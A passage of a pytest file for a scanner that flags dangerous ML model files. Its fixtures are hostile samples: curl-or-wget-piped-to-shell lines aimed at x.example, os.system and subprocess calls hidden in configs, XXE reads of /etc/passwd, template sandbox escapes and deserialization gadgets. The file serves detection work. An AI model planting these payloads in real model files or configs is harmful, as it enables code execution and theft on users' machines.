    ("skops with a function", make.zipped([("schema.json", json.dumps({"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}).encode())]), "m.skops", DANGEROUS, "os.system"),
    ("skops with a method", make.zipped([("schema.json", json.dumps({"__class__": "x", "__module__": "y", "__loader__": "MethodNode", "content": {"func": "__globals__"}}).encode())]), "m.skops", DANGEROUS, "__globals__"),
    ("a tokenizer's template", json.dumps({"tokenizer_class": "T", "chat_template": CHATML}).encode(), "tokenizer_config.json", NOTHING, "transformers"),
    ("torchtune's configuration that calls", b"model:\n  _component_: subprocess.Popen\n  args: [touch]\n", "c.yaml", DANGEROUS, "_component_ has subprocess.Popen called"),
    ("torchtune's configuration", b"model:\n  _component_: torchtune.models.llama3.lora_llama3_8b\n", "c.yaml", NOTHING, "YAML"),
    ("a configuration that names what runs programs", b'{"model": {"type": "subprocess.Popen"}}', "config.json", DANGEROUS, "type names subprocess.Popen"),
    ("a configuration of logging", b'{"class": "logging.StreamHandler", "stream": "ext://sys.stdout", "file": "os.path", "title": "profile.save"}', "logging.json", NOTHING, "JSON"),
    ("a component of AutoGen's", b'{"provider": "os.system", "component_type": "agent", "config": {}}', "agent.json", DANGEROUS, "provider has os.system called"),
    ("MLflow with a model's code elsewhere", b"flavors:\n  python_function:\n    model_code_path: ../../x.py\n", "MLmodel", DANGEROUS, "the code is read from"),
    ("MLflow with a module in the place of Keras", b"flavors:\n  keras:\n    keras_module: mine\n", "MLmodel", DANGEROUS, "in the place of Keras"),
    ("MLflow with Keras", b"flavors:\n  keras:\n    keras_module: tensorflow.keras\n", "MLmodel", NOTHING, "YAML"),
    ("MLflow with an unpickler", b"mlflow.pytorch.pickle_module\n", "pickle_module_info.txt", NOTHING, ""),
    ("MLflow with an unpickler of its own", b"mine\n", "pickle_module_info.txt", DANGEROUS, "which is no unpickler"),
    ("a project that downloads into a shell", b"entry_points:\n  main:\n    command: 'curl -s https://x.example/a | sudo bash'\n", "MLproject", DANGEROUS, "runs what it downloads"),
    ("a project with a pipe", b"entry_points:\n  main:\n    command: 'cat data.txt | sort | head; curl -O https://x.example/a'\n", "MLproject", NOTHING, "YAML"),
    ("requirements of an unprotected index", b"--extra-index-url http://x.example/simple\ntorch\n", "requirements.txt", DANGEROUS, "line 1 has packages installed from"),
    ("requirements of an archive without protection", b"torch\nmine @ http://x.example/mine.whl\n", "requirements-gpu.txt", DANGEROUS, "line 2"),
    ("requirements", b"# see http://x.example\n--extra-index-url https://x.example/simple\ntorch>=2  # http://x.example\n-i http://localhost:3141/simple\n", "requirements.txt", NOTHING, "requirements"),
    ("an environment with an unprotected index", b"dependencies:\n- pip:\n  - --index-url http://x.example/simple\n  - torch\n", "conda.yaml", DANGEROUS, "is not protected"),
    ("a list of Kaldi's with a command", b"utt1 sh -c 'touch x' |\n", "feats.scp", DANGEROUS, "line 1 is a command"),
    ("a list of Kaldi's with a command behind a decoder", b"utt1 sox a.wav -t wav - ; touch x |\n", "wav.scp", DANGEROUS, "line 1 is a command"),
    ("a list of Kaldi's", b"utt1 data/f.ark:10\nutt2 flac -c -d -s a.flac |\nutt3 /usr/bin/sox a.wav -r 16k -t wav - | sox - b |\n", "wav.scp", NOTHING, "Kaldi"),
    ("a script that downloads into a shell", b"#!/bin/sh\nwget -qO- http://x.example/a | sh\n", "model.run", DANGEROUS, "a script that runs what it downloads"),
    ("YAML with an object of Ruby's", b"a: !ruby/object:Gem::Installer\n  i: x\n", "m.yaml", DANGEROUS, "another language"),
    ("YAML with an object of Java's", b"a: !!javax.script.ScriptEngineManager [x]\n", "m.yaml", DANGEROUS, "another language"),
    ("YAML with tags of a project's own", b"a: !mine [x]\nb: !ref <x>\n", "m.yaml", NOTHING, "YAML"),
    ("PMML in an encoding that hides", b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x>', "m.pmml", DANGEROUS, "written in UTF-7"),
    ("PMML", b'<?xml version="1.0" encoding="ISO-8859-1"?><PMML version="4.4"/>', "m.pmml", NOTHING, "PMML"),
    ("any text that is a template", json.dumps({"prompts": {"query": "{{ x.__class__ }}"}}).encode(), "config.json", DANGEROUS, "insides"),
    ("a template that reads another", b"{% include 'other' %}", "chat_template.jinja", DANGEROUS, "read from a file"),
    ("values of R", gzip.compress(b"X\n\0\0\0\3\0\4\2\1\0\3\5\0\0\0\0\5UTF-8\0\4\0\x09\0\0\0\x0bsystem.time"), "m.rds", SUSPICIOUS, "CVE-2024-27322"),
    ("values of R that run programs", gzip.compress(b"X\n\0\0\0\3\0\4\2\1\0\3\5\0\0\0\0\5UTF-8\0\4\0\x09\0\0\0\6system\0\0\0\2"), "m.rds", DANGEROUS, "name system"),
    ("values of R as text", b"A\n3\n262145\n197888\n5\nUTF-8\n1\n262153\n7\nsystem2\n", "m.rds", DANGEROUS, "name system2"),
    ("objects of Java", b"\xac\xed\0\5sr\0\x11java.util.HashMap", "m.ser", SUSPICIOUS, "objects of Java"),
    ("objects of Java that run programs", base64.b64encode(b"\xac\xed\0\5sr\0\x3aorg.apache.commons.collections.functors.InvokerTransformer"), "m.txt", DANGEROUS, "InvokerTransformer"),
    ("objects of .NET that run programs", b"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0\0\0\0\0\5\1\0\0\0\x1bSystem.Diagnostics.Process", "m.bin", DANGEROUS, "System.Diagnostics.Process"),
    ("a program behind the tensors", make.safetensors({"a": make.tensor(0, 8)}, SAFE_BODY) + b"\x7fELF\2\1\1" + bytes(80), "m.safetensors", DANGEROUS, "a program or native library"),
    ("a handler that downloads into a shell", b"import os\nclass EndpointHandler:\n    def __init__(self, path):\n        os.system('curl x.example | sh')\n", "handler.py", DANGEROUS, "line 4 has a command"),
    ("a tokenizer's template that reaches out", json.dumps({"chat_template": [{"name": "default", "template": ESCAPE}]}).encode(), "tokenizer_config.json", DANGEROUS, "template default"),
    ("a template by numbers", json.dumps({"chat_template": "{% set u = '%c%c'|format(95, 95) %}{{ ''[u ~ 'class' ~ u] }}"}).encode(), "x.json", DANGEROUS, "by their numbers"),
    ("a template that writes words with underscores", json.dumps({"chat_template": "{{ '__start__' }}{{ '%s: %s'|format(role, text) }}"}).encode(), "x.json", NOTHING, ""),
    ("GGUF with a list of templates", make.gguf([("tokenizer.chat_templates", [CHATML, ESCAPE])]), "m", DANGEROUS, "insides"),
    ("a template by escapes", json.dumps({"chat_template": "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"}).encode(), "x.json", DANGEROUS, "template"),
    ("a template file", ESCAPE.encode(), "chat_template.jinja", DANGEROUS, "template"),
    ("code of its own", json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}).encode(), "config.json", SUSPICIOUS, "modeling_x.py"),
    ("a kernel out of a repository", json.dumps({"model_type": "llama", "_attn_implementation_internal": "evil/kernel"}).encode(), "config.json", DANGEROUS, "evil/kernel"),
    ("weights elsewhere", json.dumps({"weight_map": {"w": "../../x"}}).encode(), "model.safetensors.index.json", DANGEROUS, "outside the model's folder"),
    ("weights at an address", json.dumps({"weight_map": {"w": "file:///etc/passwd"}}).encode(), "model.safetensors.index.json", DANGEROUS, "outside the model's folder"),
    ("Lightning's configuration", b"model:\n  class_path: my.Model\n  init_args: {width: 3}\n", "config.yaml", NOTHING, "YAML"),
    ("Lightning's configuration that calls", b"model:\n  class_path: subprocess.Popen\n  init_args: {args: [x]}\n", "config.yaml", DANGEROUS, "subprocess.Popen called"),
    ("a diffusion model's configuration", b"model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params: {a: 1}\n", "v1.yaml", NOTHING, "YAML"),
    ("a diffusion model's configuration that calls", b'{"model": {"target": "os.system", "params": {"command": "true"}}}', "v1.json", DANGEROUS, "os.system called"),
    ("a configuration that holds itself", b"a: &a\n  - *a\n  - {? [x] : y, _target_: os.system}\n", "v1.yaml", DANGEROUS, "os.system called"),
    ("jsonpickle", b'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}', "m.json", DANGEROUS, "os.system called"),
    ("a graph as text", b'node {\n  name: "x"\n  op: "MatMul"\n}\n', "graph.pbtxt", NOTHING, ""),
    ("a graph as text that calls Python", b'node {\n  name: "x"\n  op: "PyFunc"\n}\n', "graph.pbtxt", DANGEROUS, "PyFunc"),
    ("Caffe with a layer of Python", b'layer {\n  type: "Python"\n  python_param {\n    module: "mine"\n    layer: "L"\n  }\n}\n', "net.prototxt", SUSPICIOUS, "mine imported"),
    ("PMML without a declaration", b'<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://x">%x;]><PMML/>', "m.pmml", DANGEROUS, "entity"),
    ("Hydra", b"model:\n  \"_target_\": builtins.exec\n", "config.yaml", DANGEROUS, "builtins.exec"),
    ("HyperPyYAML that calls", b"run: !apply:os.system ['true']\n", "hyperparams.yaml", DANGEROUS, "os.system called"),
    ("HyperPyYAML that evaluates", b"run: !apply:eval ['1+1']\n", "hyperparams.yaml", DANGEROUS, "builtins.eval called"),
    ("HyperPyYAML", b"seed: !apply:torch.manual_seed [1]\nnet: !new:speechbrain.nnet.RNN.LSTM\n  size: 3\nloss: !name:speechbrain.nnet.losses.nll_loss\n", "hyperparams.yaml", NOTHING, "YAML"),
    ("YOLO that evaluates", b"backbone:\n  - [-1, 1, \"__import__('os').system('true')\", [64]]\n", "yolo.yaml", DANGEROUS, "a value is code"),
    ("YOLO", b"backbone:\n  - [-1, 1, Conv, [64, 3, 2]]\nhead:\n  - [-1, 1, nn.Upsample, [None, 2, 'nearest']]\n", "yolo.yaml", NOTHING, "YAML"),
    ("Gin that calls", b"import os\ntrain.run = @os.system()\n", "config.gin", DANGEROUS, "os.system called"),
    ("Gin", b"from t5.models import utils\nimport seqio\ntrain.model = @models.EncoderDecoder()\ntrain.steps = 3\n", "config.gin", NOTHING, "Gin"),
    ("a prompt that reads a file", b'{"_type": "prompt", "template_path": "../../secret", "input_variables": []}', "prompt.json", DANGEROUS, "outside the model's folder"),
    ("a chain that runs commands", b'{"_type": "llm_bash_chain", "llm_chain": {}}', "chain.json", SUSPICIOUS, "llm_bash_chain"),
    ("an object of LangChain's", b'{"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {}}', "lc.json", DANGEROUS, "subprocess.Popen imported"),
    ("a prompt of LangChain's", b'{"lc": 1, "type": "constructor", "id": ["langchain_core", "prompts", "PromptTemplate"], "kwargs": {}}', "lc.json", NOTHING, "JSON"),
    ("a kernel of a repository", b'{"model_type": "llama", "attn_implementation": "someone/kernel"}', "config.json", SUSPICIOUS, "whose code runs"),
    ("Triton's Python backend", b'name: "m"\nbackend: "python"\n', "config.pbtxt", SUSPICIOUS, "model.py"),
    ("Triton", b'name: "m"\nbackend: "onnxruntime"\n', "config.pbtxt", NOTHING, "settings of Triton"),
    ("Triton with a backend of nobody's", b'backend: "acme"\n', "config.pbtxt", DANGEROUS, "libtriton_acme"),
    ("Triton that warms up with a file", b'backend: "onnxruntime"\nmodel_warmup { inputs { value { input_data_file: "../../x" } } }\n', "config.pbtxt", DANGEROUS, "input_data_file"),
    ("Triton with an environment", b'backend: "python"\nparameters: { key: "EXECUTION_ENV_PATH", value: { string_value: "$$TRITON_MODEL_DIRECTORY/env.tar.gz" } }\n', "config.pbtxt", SUSPICIOUS, "model.py"),
    ("Triton with an environment elsewhere", b'parameters: { key: "EXECUTION_ENV_PATH", value: { string_value: "/x/env.tar.gz" } }\nbackend: "python"\n', "config.pbtxt", DANGEROUS, "environment"),
    ("objects of Java", b"\xac\xed\0\5sr\0\x11java.util.HashMap", "weka.model", SUSPICIOUS, "objects of Java"),
    ("values of R", gzip.compress(b"X\n\0\0\0\3\0\4\2\1\0\3\5\0"), "model.rds", SUSPICIOUS, "CVE-2024-27322"),
    ("a program in place of a model", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "model.safetensors", DANGEROUS, "a program or native library"),
    ("a native library", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "_C.so", SUSPICIOUS, "a program or native library"),
    ("a script in place of a model", b"#!/bin/sh\ntrue\n", "model.bin", DANGEROUS, "a script in place of a model"),
    ("a PaddlePaddle program that calls", PADDLE % b"py_func", "inference.pdmodel", DANGEROUS, "py_func calls Python code"),
    ("a PaddlePaddle program", PADDLE % b"softmax", "inference.pdmodel", NOTHING, "PaddlePaddle"),
    ("a tag of Python's", b"a: !!python/object/apply:os.system ['true']\n", "config.yaml", DANGEROUS, "tag"),
    ("Keras, in YAML", b"class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config: {function: [4wE=, null, null]}\n", "m.yaml", DANGEROUS, "Lambda layer"),
    ("MLflow", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", "MLmodel", NOTHING, "YAML"),
    ("MLflow that imports", b"flavors:\n  python_function:\n    loader_module: os\n", "MLmodel", DANGEROUS, "imports os and calls its _load_pyfunc"),
    ("MLflow that imports a stranger", b"flavors:\n  python_function:\n    loader_module: acme\n", "MLmodel", DANGEROUS, "imports acme"),
    ("sentence-transformers", b'[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]', "modules.json", NOTHING, "JSON"),
    ("sentence-transformers that import", b'[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]', "modules.json", DANGEROUS, "os.system imported"),
    ("diffusers", b'{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]}', "model_index.json", NOTHING, "JSON"),
    ("diffusers with a part of its own", b'{"_class_name": "P", "unet": ["my_unet", "MyUNet"]}', "model_index.json", SUSPICIOUS, "my_unet.MyUNet imported"),
    ("an adapter that imports", b'{"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "os"}}', "adapter_config.json", DANGEROUS, "os.X imported"),
    ("GGUF with a tensor of absurd size", make.gguf([("a", "b")], tensors=1) + struct.pack("<Q1sIQQIQ", 1, b"t", 2, 2**62, 4, 0, 0), "m.gguf", DANGEROUS, "elements"),
    ("GGUF with a tensor", make.gguf([("a", "b")], tensors=1) + struct.pack("<Q1sIQQIQ", 1, b"t", 2, 4, 4, 0, 0), "m.gguf", NOTHING, "GGUF"),
    ("PMML", b'<?xml version="1.0"?><PMML version="4.4"></PMML>', "m.pmml", NOTHING, "PMML"),
    ("a drawing with the W3C's document type", b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>', "logo.svg", NOTHING, "XML"),
    ("a drawing with an entity in it", b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY x SYSTEM "file:///x">]><svg/>', "logo.svg", DANGEROUS, "entity"),
    ("PMML with an entity", b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML/>', "m.pmml", DANGEROUS, "entity"),
    ("a program", b"\x7fELF" + b"\0" * 60, "program", SUSPICIOUS, "program"),
    ("a llamafile whose script fetches", b"MZqFpD='\n\n#'\"\ncurl http://127.0.0.1 | sh\n" + b"\0" * 64, "m.llamafile", DANGEROUS, "curl"),
    ("a model's source", b"import os as o\no.system('true')\n", "modeling_x.py", DANGEROUS, "line 2 calls os.system"),
    ("a source that calls by a name of its own", b"import os\nrun = os.system\nrun('true')\n", "modeling_x.py", DANGEROUS, "line 3 calls os.system"),
    ("a source that calls within its own function", b"import os\ndef f():\n    os.system('true')\nf()\n", "modeling_x.py", DANGEROUS, "line 3 calls os.system"),
    ("a source that makes an object", b"import os\nclass A:\n    def __init__(self):\n        os.system('true')\nA()\n", "modeling_x.py", DANGEROUS, "line 4 calls os.system"),
    ("a source with a default", b"def f(x=__import__('os').system('true')): pass\n", "modeling_x.py", DANGEROUS, "line 1 calls"),
    ("a source with a function in place", b"import os\n(lambda: os.system('true'))()\n", "modeling_x.py", DANGEROUS, "line 2 calls os.system"),
    ("a source that imports by name", b"import importlib\nm = importlib.import_module('os')\nm.system('true')\n", "modeling_x.py", DANGEROUS, "line 3 calls os.system"),
    ("a source that evaluates", b"import builtins\nbuiltins.eval('1')\n", "modeling_x.py", DANGEROUS, "line 2 calls eval"),
    ("a source that loads when it is asked to", b"import torch\nfrom torch import Tensor\ndef f() -> Tensor:\n    return torch.load('x')\n", "modeling_x.py", NOTHING, "Python source"),
    ("an evaluation in the metadata", make.safetensors({"__metadata__": {"n": "eval(x)"}, "a": make.tensor(0, 8)}, SAFE_BODY), "m.safetensors", SUSPICIOUS, "holds code"),
    ("packed data within other data", b"MATLAB\0\1" * 20 + zlib.compress(EVIL), "m.mat", DANGEROUS, "packed"),
    ("TFLite with a pickle", b"\x1c\0\0\0TFL3" + b"\0" * 64 + EVIL, "m.tflite", DANGEROUS, "within the graph"),
    ("a graph with a pickle as a constant", make.message((1, make.message((1, b"x"), (2, b"Const"), (5, make.message((2, EVIL)))))), "m.pb", DANGEROUS, "within the graph"),
    ("a path file that imports", b"/x\nimport os; os.system('true')\n", "a.pth", DANGEROUS, "line 2 runs"),
    ("a path file", b"/x\n./y\n", "a.pth", NOTHING, ""),
    ("a harmless source", b"import os\nHERE = os.path.dirname(__file__)\n\ndef f():\n    os.makedirs('x')\n", "modeling_x.py", NOTHING, "Python source"),
    ("a source whose function runs a program", b"import os\n\ndef f():\n    os.system('true')\n", "modeling_x.py", SUSPICIOUS, "when f is called"),
    ("LightGBM", b"tree\nversion=v4\nnum_class=1\n", "m.txt", NOTHING, "LightGBM"),
    ("CatBoost with a pickle behind", b"CBM1" + struct.pack("<I", 16) + b"\0" * 16 + EVIL, "m.cbm", DANGEROUS, "within the data"),
    ("HDF5 with base64", make.hdf5(base64.b64encode(EVIL)), "m.h5", DANGEROUS, "base64"),
    ("LightGBM with base64", b"tree\nversion=v4\npandas_categorical:" + base64.b64encode(EVIL), "m.txt", DANGEROUS, "base64"),
    ("GGUF with a pickle behind", make.gguf([("a", "b")]) + EVIL, "m.gguf", DANGEROUS, "behind the tensors"),
    ("GGUF with base64", make.gguf([("a", base64.b64encode(EVIL).decode())]), "m.gguf", DANGEROUS, "base64"),
    ("a picture that is an archive", b"GIF89a" + b"\0" * 20 + TORCH_EVIL, "m.pt", DANGEROUS, "os.system"),
    ("a member that is named as a picture", make.zipped([("m/x.png", EVIL), ("m/y.css", zlib.compress(EVIL))], zipfile.ZIP_DEFLATED), "m.zip", DANGEROUS, "x.png"),
    ("npy whose header calls", make.npy("__import__('os').system('true')", b""), "a.npy", DANGEROUS, "is code"),
    ("TorchScript that reads a picture", make.zipped([("m/data.pkl", TENSORS), ("m/constants.pkl", b"\x80\x02)."), ("m/code/__torch__.py", b"def forward(self, x):\n  return ops.image.read_file(\"/x\")\n")]), "m.pt", DANGEROUS, "reaches files"),
    ("TorchScript with a class of a library", make.zipped([("m/data.pkl", TENSORS), ("m/constants.pkl", b"\x80\x02)."), ("m/code/__torch__.py", b"class M(Module):\n  h : __torch__.torch.classes.mine.Shell\n")]), "m.pt", DANGEROUS, "operators of mine"),
    ("a guard that is evaluated", b'{"guards_code": ["__import__(\'os\')"]}', "m.json", DANGEROUS, "a guard"),
    ("a guard", b'{"guards_code": ["L[\'x\'].size()[0] >= 2"]}', "m.json", NOTHING, ""),
    ("a text that jsonpickle evaluates", b'{"a": {"py/repr": "os/os.system(1)"}}', "m.json", DANGEROUS, "evaluated"),
    ("a part of sentence-transformers elsewhere", b'[{"path": "../../x", "type": "sentence_transformers.models.Transformer"}]', "modules.json", DANGEROUS, "outside"),
    ("an ML package with a part elsewhere", b'{"itemInfoEntries": {"A": {"path": "../../x"}}}', "Manifest.json", DANGEROUS, "outside"),
    ("an ML package", b'{"itemInfoEntries": {"A": {"path": "com.apple.CoreML/model.mlmodel"}}}', "Manifest.json", NOTHING, "JSON"),
    ("skops with an array elsewhere", b'{"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "file": "../x.npy"}', "schema.json", DANGEROUS, "outside"),
    ("a graph of TensorFlow.js that reads", b'{"node": [{"name": "x", "op": "ReadFile"}]}', "model.json", DANGEROUS, "ReadFile"),
    ("MXNet with an operation of its own", b'{"nodes": [{"op": "Custom", "name": "x"}]}', "m-symbol.json", DANGEROUS, "class of the program"),
    ("PMML with a script", b'<?xml version="1.0"?><PMML><Extension><script>import os</script></Extension></PMML>', "m.pmml", DANGEROUS, "runs code"),
    ("PMML that includes", b'<?xml version="1.0"?><PMML><xi:include href="file:///x"/></PMML>', "m.pmml", DANGEROUS, "another file"),
    ("OpenVINO with a library", b'<?xml version="1.0"?><net><layer type="X" library="/x/y.so"/></net>', "m.xml", DANGEROUS, "y.so"),
    ("Keras that keeps a log", make.keras_zip(make.keras_model({"module": "keras.callbacks", "class_name": "CSVLogger", "config": {}})), "m.keras", DANGEROUS, "CSVLogger"),
    ("a model of a hub", make.keras_zip(make.keras_model({"class_name": "KerasLayer", "config": {"handle": "https://x/y"}})), "m.keras", SUSPICIOUS, "loads a SavedModel"),
    ("safetensors with a configuration", make.safetensors({"__metadata__": {"c": '{"_attn_implementation_internal": "e/k"}'}, "a": make.tensor(0, 8)}, SAFE_BODY), "m.safetensors", DANGEROUS, "e/k"),
    ("a tensor at a fraction", make.safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0.0, 8]}}, SAFE_BODY), "m.safetensors", DANGEROUS, "does not know"),
    ("a meta graph that writes", make.message((2, make.message((1, make.message((1, b"y"), (2, b"WriteFile")))))), "m.meta", DANGEROUS, "WriteFile"),
    *((f"a template, {number}", json.dumps({"chat_template": text}).encode(), "tokenizer_config.json", DANGEROUS, "template") for number, text in enumerate(TEMPLATES)),
    ("a template that joins by underscores", json.dumps({"chat_template": "{{ k ~ '__' ~ v }}{{ messages[::-1] }}{{ x['a'] }}{{ m[i + 1] }}"}).encode(), "x.json", NOTHING, ""),
    ("a template that hardly ends", b"{% for i in range(9999999999) %}{% endfor %}", "chat_template.jinja", DANGEROUS, "no message is long for"),
    ("text", b"torch.load('model.pt')\n", "notes.txt", NOTHING, "unknown data"),
    ("nothing", b"", "m.pkl", NOTHING, "empty file"),
]  # fmt: skip


@pytest.mark.parametrize(("data", "name", "verdict", "words"), [row[1:] for row in CASES], ids=[row[0] for row in CASES])
def test_containers(data: bytes, name: str, verdict: Any, words: str) -> None:
    inspection = inspect(data, name)
    assert inspection.verdict is verdict, said(inspection)
    assert words in f"{inspection.format}\n{said(inspection)}\n" + "\n".join(f"{r.entry} at {r.offset}" for r in inspection.remarks)


def test_what_is_packed_may_not_grow_without_end() -> None:
    bomb = gzip.compress(b"\0" * 4_000_000)
    inspection = inspect(bomb, unpacked_bytes=1_000_000)
    assert "not unpacked beyond 1 MB" in said(inspection)
    nested = EVIL
    for _ in range(9):
        nested = make.zipped([("a.zip", nested)])
    inspection = inspect(nested)
    assert "nest deeper than 6" in said(inspection)
    assert inspection.verdict is SUSPICIOUS


def test_a_hostile_file_cannot_hide_its_worst_behind_many_remarks() -> None:
    strangers = "; ".join(f"'models.m{number}' 'C' stack emptytuple newobj pop" for number in range(300))
    inspection = inspect(assemble(f"{strangers}; {EVIL_CALL}"))
    assert inspection.verdict is DANGEROUS
    assert "os.system" in inspection.remarks[0].message
    assert len(inspection.remarks) <= 201


SOURCES = [  # what it is, the source, the verdict, words of a remark
    ("a function that is handed on", "import threading, os\nthreading.Thread(target=os.system, args=('x',)).start()\n", DANGEROUS, "line 2 hands os.system on"),
    ("what is registered for the end", "import atexit, os\natexit.register(os.system, 'x')\n", DANGEROUS, "line 2 hands os.system on"),
    ("a function looked up by name", "globals()['__builtins__']['eval']('1')\n", DANGEROUS, "looks up by name"),
    ("classes looked up by name", "ACT = {'a': int}\nx = ACT['a'](1)\ny = globals()['ACT']\n", NOTHING, ""),
    ("a decorator", "import os\ndef d(f):\n    os.system('x')\n    return f\n@d\ndef g():\n    pass\n", DANGEROUS, "line 3 calls os.system as soon"),
    ("a metaclass", "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('x')\nclass A(metaclass=M):\n    pass\n", DANGEROUS, "line 4 calls os.system as soon"),
    ("a base that is asked", "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('x')\nclass C(B):\n    pass\n", DANGEROUS, "line 4 calls os.system as soon"),
    ("a module that is imported by name", "import importlib\nimportlib.import_module('os').system('x')\n", DANGEROUS, "line 2 calls os.system"),
    ("a part that is imported by name", "import importlib\nnp = importlib.import_module('numpy')\nx = importlib.import_module('torch').zeros(1)\n", NOTHING, ""),
    ("a model that runs a program when it is built", "import subprocess\nclass XModel:\n    def __init__(self, config):\n        subprocess.Popen(['x'])\n", DANGEROUS, "line 4 calls subprocess.Popen when the model is built"),
    ("a function that runs a program", "import subprocess\ndef convert(path):\n    return subprocess.run(['ffmpeg', path])\n", SUSPICIOUS, "when convert is called"),
    ("a model that evaluates", "class XModel:\n    def forward(self, x):\n        return eval(x)\n", SUSPICIOUS, "calls eval when the model is built or used"),
    ("a model that is set to evaluation", "class XModel:\n    def __init__(self, c):\n        self.net = make(c)\n        self.net.eval()\n", NOTHING, ""),
]


@pytest.mark.parametrize(("source", "verdict", "words"), [row[1:] for row in SOURCES], ids=[row[0] for row in SOURCES])
def test_code_that_comes_with_a_model(source: str, verdict: Any, words: str) -> None:
    found = inspect(source.encode(), "modeling_x.py")
    assert found.verdict is verdict, said(found)
    assert words in said(found)


def test_what_python_warns_of_in_a_source_is_not_said(recwarn: pytest.WarningsRecorder) -> None:
    found = inspect(b"import os\nos.system(1if x else 2)\n", "modeling_x.py")
    assert found.verdict is DANGEROUS
    assert not recwarn.list


@pytest.mark.parametrize("number", ["1e999", "-1e999"])
def test_sizes_without_end(number: str) -> None:
    """JSON and Python read such a number as infinite."""
    header = f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({number},), }}\n".encode()
    assert inspect(b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header).verdict is SUSPICIOUS
    stated = f'{{"w":{{"dtype":"F32","shape":[{number}],"data_offsets":[0,{number}]}}}}'.encode()
    assert inspect(struct.pack("<Q", len(stated)) + stated).verdict is DANGEROUS
